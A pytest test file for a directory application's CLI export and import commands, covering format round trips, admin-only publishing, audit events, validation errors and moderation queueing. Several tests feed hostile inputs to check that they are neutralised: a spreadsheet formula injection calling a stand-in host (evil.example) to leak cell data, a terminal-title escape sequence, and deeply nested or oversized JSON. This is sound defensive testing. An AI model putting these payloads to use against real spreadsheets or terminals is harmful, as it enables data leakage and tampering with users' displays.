"""`directory export` and `directory import`, driven as a person would from a terminal."""

from __future__ import annotations

import csv
import io
import json
import uuid
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlmodel import Session, select

from directory import accounts, catalogue, moderation
from directory.cli import main
from directory.database import make_engine
from directory.models import Activity, AuditEvent, Submission
from directory.opendata import hsds, ourjson
from directory.settings import Settings
from tests import factories
from tests.factories import SEED_COUNT

PASSWORD = "a long enough password"


@pytest.fixture
def run(settings, monkeypatch):
    """Run `directory ...` against the test's directory, or another one."""
    monkeypatch.delenv("MEILI_URL", raising=False)
    runner = CliRunner()

    def invoke(*args: str, directory: Settings | None = None, input: str | None = None):
        directory = directory or settings
        env = {
            "DIRECTORY_DATA_DIR": str(directory.data_dir),
            "DIRECTORY_DATABASE_URL": directory.database_url,
        }
        return runner.invoke(main, list(args), input=input, env=env, catch_exceptions=False)

    return invoke


@pytest.fixture
def fresh(run, tmp_path, new_database) -> Settings:
    """Another, empty directory (its own data and database) with an administrator, alice."""
    directory = Settings(data_dir=tmp_path / "fresh", database_url=new_database(), meili_url="")
    run("migrate", directory=directory)
    created = run(
        "create-moderator", "alice", "--admin", "--password-stdin",
        directory=directory, input=PASSWORD + "\n",
    )  # fmt: skip
    assert created.exit_code == 0, created.output
    return directory


def write_json(path: Path, data) -> Path:
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def seed_listings(seeded, *slugs: str) -> list:
    with Session(seeded) as session:
        return [ourjson.listing(catalogue.get(session, slug)) for slug in slugs]


# Export --------------------------------------------------------------------------------------


def test_csv_export_has_a_header_and_one_row_per_organisation(run, seeded):
    result = run("export", "--format", "csv")
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert rows[0][:3] == ["slug", "name", "alternate_names"]
    assert len(rows) == SEED_COUNT + 1
    assert len({row[0] for row in rows[1:]}) == SEED_COUNT


@pytest.mark.parametrize("format_name", ["json", "hsds"])
def test_export_to_standard_output_is_clean_json(run, seeded, format_name):
    result = run("export", "--format", format_name)
    assert result.exit_code == 0
    data = json.loads(result.stdout)  # the progress bar went to standard error
    assert len(data["organisations"] if format_name == "json" else data) == SEED_COUNT
    assert f"Exporting {SEED_COUNT} organisations" in result.stderr


def test_export_to_a_file(run, seeded, tmp_path):
    target = tmp_path / "out" / "listings.json"
    target.parent.mkdir()
    result = run("export", "--output", str(target))
    assert result.exit_code == 0
    assert f"Wrote {SEED_COUNT} organisations to {target}" in result.stderr
    assert result.stdout == ""
    assert len(json.loads(target.read_text(encoding="utf-8"))["organisations"]) == SEED_COUNT
    assert list(target.parent.iterdir()) == [target]  # no partial file left behind


# The round trip ------------------------------------------------------------------------------


@pytest.mark.parametrize("format_name", ["json", "hsds"])
@pytest.mark.databases
def test_export_import_publish_export_is_byte_identical(run, seeded, fresh, tmp_path, format_name):
    first = tmp_path / f"first.{format_name}"
    second = tmp_path / f"second.{format_name}"
    assert run("export", "--format", format_name, "-o", str(first)).exit_code == 0

    imported = run("import", str(first), "--publish", "--as", "alice", directory=fresh)
    assert imported.exit_code == 0, imported.output
    assert f"{SEED_COUNT} created, 0 updated, 0 unchanged" in imported.stdout
    # An import carries listings, not their activities (those come through moderation or
    # the seed): the fresh site is given the same ones, so the exports compare whole.
    _copy_activities(seeded, fresh)

    assert run("export", "--format", format_name, "-o", str(second), directory=fresh).exit_code == 0
    assert second.read_bytes() == first.read_bytes()

    again = run("import", str(first), "--publish", "--as", "alice", directory=fresh)
    assert f"0 created, 0 updated, {SEED_COUNT} unchanged" in again.stdout


def _copy_activities(seeded, fresh: Settings) -> None:
    with Session(seeded) as session:
        rows = [row.model_dump(exclude={"id"}) for row in session.exec(select(Activity)).all()]
    assert rows, "the seed has activities, so the HSDS export carries schedules"
    engine = make_engine(fresh)
    with Session(engine) as session:
        session.add_all(Activity(**row) for row in rows)
        session.commit()
    engine.dispose()


@pytest.mark.databases
def test_publishing_writes_an_audit_event_per_change(run, seeded, fresh, tmp_path):
    (listing,) = seed_listings(seeded, "bent-bars-project")
    source = write_json(tmp_path / "one.json", [listing])
    assert run("import", str(source), "--publish", "--as", "alice", directory=fresh).exit_code == 0
    changed = {**listing, "description": listing["description"] + " Now with more detail."}
    write_json(source, [changed])
    result = run("import", str(source), "--publish", "--as", "alice", directory=fresh)
    assert "0 created, 1 updated, 0 unchanged" in result.stdout

    engine = make_engine(fresh)
    with Session(engine) as session:
        events = session.exec(select(AuditEvent).where(AuditEvent.action == "import")).all()
        assert [(e.actor, e.organisation_slug) for e in events] == [
            ("alice", "bent-bars-project"),
            ("alice", "bent-bars-project"),
        ]
        created, updated = events
        assert created.before is None and created.after["name"] == listing["name"]
        assert updated.before["description"] == listing["description"]
        assert updated.after["description"] == changed["description"]
    engine.dispose()


def test_a_large_import_writes_in_short_transactions(run, fresh, tmp_path):
    # Held in one transaction, an import holds SQLite's write lock from its first record to
    # its last: every form sent meanwhile waits past its busy timeout, then fails.
    from sqlalchemy import event
    from sqlalchemy.engine import Engine

    from directory.opendata import importing

    count = 2 * importing.BATCH_SIZE + 7
    source = write_json(
        tmp_path / "many.json", [ourjson.listing(factories.record()) for _ in range(count)]
    )
    commits: list[object] = []

    def committed(connection) -> None:
        commits.append(connection)

    event.listen(Engine, "commit", committed)
    try:
        result = run("import", str(source), "--publish", "--as", "alice", directory=fresh)
    finally:
        event.remove(Engine, "commit", committed)
    assert f"{count} created" in result.stdout
    assert len(commits) >= 3, len(commits)  # one per batch of records, at least


@pytest.mark.parametrize("username", ["bob", "nobody"])
def test_publishing_is_refused_unless_by_an_active_admin(
    run, seeded, moderators, tmp_path, username
):
    new = ourjson.listing(factories.record(slug="would-be-published"))
    source = write_json(tmp_path / "new.json", [new])
    result = run("import", str(source), "--publish", "--as", username)
    assert result.exit_code == 1
    assert f"{username} is not an active administrator" in result.stderr
    with Session(seeded) as session:
        assert catalogue.get(session, "would-be-published") is None
        assert session.exec(select(Submission)).all() == []


@pytest.mark.databases
def test_a_deactivated_admin_cannot_publish(run, seeded, moderators, tmp_path):
    with Session(seeded) as session:
        accounts.create_moderator(session, "carol", PASSWORD, admin=True)
        accounts.set_active(session, "carol", False, actor="alice")
        session.commit()
    source = write_json(tmp_path / "new.json", [ourjson.listing(factories.record())])
    assert run("import", str(source), "--publish", "--as", "carol").exit_code == 1


def test_publish_needs_a_username(run, seeded, tmp_path):
    source = write_json(tmp_path / "new.json", [])
    result = run("import", str(source), "--publish")
    assert result.exit_code == 2
    assert "--publish needs --as USERNAME" in result.output


# Bad records ---------------------------------------------------------------------------------

BAD_RECORDS = {
    "unknown kind": (
        lambda listing: listing.update(kind="prison-gym"),
        "field 'kind': 'prison-gym' is not a known kind",
    ),
    "bad URL": (
        lambda listing: listing.update(website="www.example.org"),
        "field 'website': must be a web address starting with http:// or https://",
    ),
    "missing name": (lambda listing: listing.pop("name"), "field 'name': Field required"),
    "bad country": (
        lambda listing: listing.update(country="XX"),
        "field 'country': 'XX' is not an ISO 3166-1 alpha-2 country code",
    ),
}


@pytest.mark.parametrize("case", list(BAD_RECORDS))
def test_import_reports_a_bad_record_with_its_reason(run, seeded, tmp_path, case):
    break_it, reason = BAD_RECORDS[case]
    good_before, bad, good_after = (ourjson.listing(factories.record()) for _ in range(3))
    break_it(bad)
    source = write_json(tmp_path / "mixed.json", {"organisations": [good_before, bad, good_after]})
    result = run("import", str(source))
    assert result.exit_code == 1
    assert f"record #2 ({bad['slug']}): {reason}" in result.stderr
    assert "record #1" not in result.stderr and "record #3" not in result.stderr
    assert "2 queued, 0 already queued, 1 rejected" in result.stdout


def test_import_reports_every_bad_record(run, seeded, tmp_path):
    listings = []
    for break_it, _ in BAD_RECORDS.values():
        listing = ourjson.listing(factories.record())
        break_it(listing)
        listings.append(listing)
    good = ourjson.listing(factories.record())
    listings += [good, dict(good, name="Same Slug Again")]
    result = run("import", str(write_json(tmp_path / "bad.json", listings)))
    assert result.exit_code == 1
    for number, (_, reason) in enumerate(BAD_RECORDS.values(), 1):
        assert f"record #{number} ({listings[number - 1]['slug']}): {reason}" in result.stderr
    slug = good["slug"]
    repeated = f"record #6 ({slug}): field 'slug': {slug!r} is already used by record #5 ({slug})"
    assert repeated in result.stderr
    assert "record #5 (" not in result.stderr.replace(repeated, "")
    assert "1 queued, 0 already queued, 5 rejected" in result.stdout


@pytest.mark.parametrize(
    ("break_it", "reason"),
    [
        (lambda org: org.pop("name"), "HSDS organization: 'name' is a required property"),
        (lambda org: org.update(id="42"), "HSDS id: '42' is not a 'uuid'"),
        (
            lambda org: org["attributes"][0]["taxonomy_term"].update(code="prison-gym"),
            "field 'kind': 'prison-gym' is not a known kind",
        ),
    ],
)
def test_hsds_input_is_checked_against_the_schema_and_our_rules(
    run, seeded, tmp_path, break_it, reason
):
    organization = hsds.organization(factories.record())
    break_it(organization)
    result = run("import", str(write_json(tmp_path / "hsds.json", [organization])))
    assert result.exit_code == 1
    assert "record #1 " in result.stderr and reason in result.stderr


@pytest.mark.parametrize(
    ("content", "reason"),
    [("{not json", "not JSON"), ('"a string"', "expected a list of organisations")],
)
def test_an_unreadable_file_is_refused(run, seeded, tmp_path, content, reason):
    source = tmp_path / "broken.json"
    source.write_text(content, encoding="utf-8")
    result = run("import", str(source))
    assert result.exit_code == 1
    assert reason in result.stderr


# Queueing for moderation ---------------------------------------------------------------------


@pytest.mark.databases
def test_import_queues_for_moderation_and_a_second_run_queues_nothing_new(run, seeded, tmp_path):
    edited, unchanged, moved = seed_listings(
        seeded, "bent-bars-project", "bristol-abc", "brighton-abc"
    )
    edited["description"] += " They also run a newsletter."
    moved["latitude"] += 0.5  # only publishing may change coordinates
    new = ourjson.listing(factories.record(name="Imported Group"))
    source = write_json(tmp_path / "listings.json", [new, edited, unchanged, moved])

    first = run("import", str(source))
    assert first.exit_code == 0, first.output
    assert "0 created, 0 updated, 2 unchanged, 2 queued, 0 already queued, 0 rejected" in (
        first.stdout
    )
    assert "record #4 (brighton-abc): latitude differs from the live listing" in first.stderr

    with Session(seeded) as session:
        open_ones = session.exec(select(Submission)).all()
        assert sorted(s.type for s in open_ones) == ["edit", "new"]
        (edit,) = [s for s in open_ones if s.type == "edit"]
        assert edit.organisation_slug == "bent-bars-project"
        assert edit.proposed == {"description": edited["description"]}
        assert "Imported from listings.json, record #2" in edit.note
        (proposal,) = [s for s in open_ones if s.type == "new"]
        assert proposal.proposed["name"] == "Imported Group"
        assert catalogue.get(session, "bent-bars-project").description != edited["description"]

    second = run("import", str(source))
    assert second.exit_code == 0
    assert "2 unchanged, 0 queued, 2 already queued, 0 rejected" in second.stdout
    with Session(seeded) as session:
        assert len(session.exec(select(Submission)).all()) == 2


@pytest.mark.databases
def test_a_queued_import_can_be_approved_like_any_submission(run, seeded, moderators, tmp_path):
    (listing,) = seed_listings(seeded, "bent-bars-project")
    listing["email"] = "letters@bentbars.example"
    assert run("import", str(write_json(tmp_path / "edit.json", [listing]))).exit_code == 0
    with Session(seeded, expire_on_commit=False) as session:
        (submission,) = session.exec(select(Submission)).all()
        fields = moderation.proposed_values(session, submission)
        moderation.approve(session, submission, fields, moderator="alice")
        session.commit()
        assert catalogue.get(session, "bent-bars-project").email == "letters@bentbars.example"


@pytest.mark.parametrize("path", ["/api/organisations", "/api/hsds/organizations"])
def test_an_api_page_can_be_imported_as_it_is(run, client, tmp_path, path):
    page = client.get(path, params={"per_page": 5}).json()
    result = run("import", str(write_json(tmp_path / "page.json", page)))
    assert result.exit_code == 0, result.output
    assert "5 unchanged, 0 queued" in result.stdout


def test_hsds_from_elsewhere_gets_a_slug_from_its_name(run, seeded, tmp_path):
    organization = hsds.organization(factories.record(name="Far Away Books"))
    organization["id"] = str(uuid.uuid4())
    organization.pop("organization_identifiers")
    result = run("import", str(write_json(tmp_path / "far.json", organization)))
    assert result.exit_code == 0, result.output
    assert "1 queued" in result.stdout
    with Session(seeded) as session:
        (submission,) = session.exec(select(Submission)).all()
        assert submission.type == "new" and submission.proposed["name"] == "Far Away Books"


def _nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (_nested(100_000), "nested more than"),
        ('{"organisations": [{"name": ' + "[" * 500 + "]" * 500 + "}]}", "nested more than"),
        (b'[{"name": "Caf\xe9 Solidarity"}]', "not UTF-8 text"),
        (b"\xff\xfe[\x00]\x00", "not UTF-8 text"),
        ("not json at all", "not JSON"),
        ('{"founded_year": ' + "9" * 5000 + "}", "not JSON"),
        ("", "the file is empty"),
        ("  \n", "the file is empty"),
    ],
    ids=[
        "nested 100,000 deep",
        "nested 500 deep in a record",
        "Latin-1",
        "UTF-16",
        "not JSON",
        "a 5,000-digit number",
        "empty",
        "only blanks",
    ],
)
def test_a_file_that_cannot_be_read_as_listings_is_refused_in_one_line(
    run, seeded, tmp_path, content, reason
):
    source = tmp_path / "hostile.json"
    if isinstance(content, str):
        source.write_text(content, encoding="utf-8")
    else:
        source.write_bytes(content)
    result = run("import", str(source))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Cannot import {source}: {reason}")
    assert len(result.stderr.splitlines()) == 1
    assert result.stdout == ""


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda path: path.mkdir(), "it is a directory"),
        (lambda path: None, "no such file"),
    ],
    ids=["a directory", "missing"],
)
def test_a_path_that_is_not_a_readable_file_is_refused_in_one_line(
    run, seeded, tmp_path, make, reason
):
    source = tmp_path / "listings.json"
    make(source)
    result = run("import", str(source))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Cannot import {source}: {reason}")
    assert len(result.stderr.splitlines()) == 1


def test_a_record_that_would_garble_the_terminal_is_reported_escaped(run, seeded, tmp_path):
    listing = ourjson.listing(factories.record())
    del listing["slug"]
    listing["name"] = "\x1b]0;owned\x07\ud800 Group"  # a terminal title, a lone surrogate
    source = tmp_path / "listings.json"
    source.write_text(json.dumps([listing]), encoding="utf-8")  # ASCII: \\ud800 stays escaped
    result = run("import", str(source))
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "record #1 (\\x1b]0;owned\\x07\\ud800 Group): field 'slug'" in result.stderr


def test_csv_export_read_back_holds_formulas_as_text(run, seeded):
    factories.store(
        seeded,
        slug="formula-group",
        name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        alternate_names=["@SUM(A1:A9)", "+1"],
        description="-2+3 people write letters to people held in prison.",
        longitude=-4.25,
        latitude=55.86,
    )
    result = run("export", "--format", "csv")
    assert result.exit_code == 0
    header, *rows = csv.reader(io.StringIO(result.stdout, newline=""))
    row = dict(zip(header, next(r for r in rows if r[0] == "formula-group"), strict=True))
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["alternate_names"] == "'@SUM(A1:A9) | +1"
    assert row["description"] == "'-2+3 people write letters to people held in prison."
    assert row["longitude"] == "-4.25"
    numbers = {"latitude", "longitude"}
    for cells_of_row in rows:  # no text cell of any listing starts as a formula would
        cells = (c for name, c in zip(header, cells_of_row, strict=True) if name not in numbers)
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
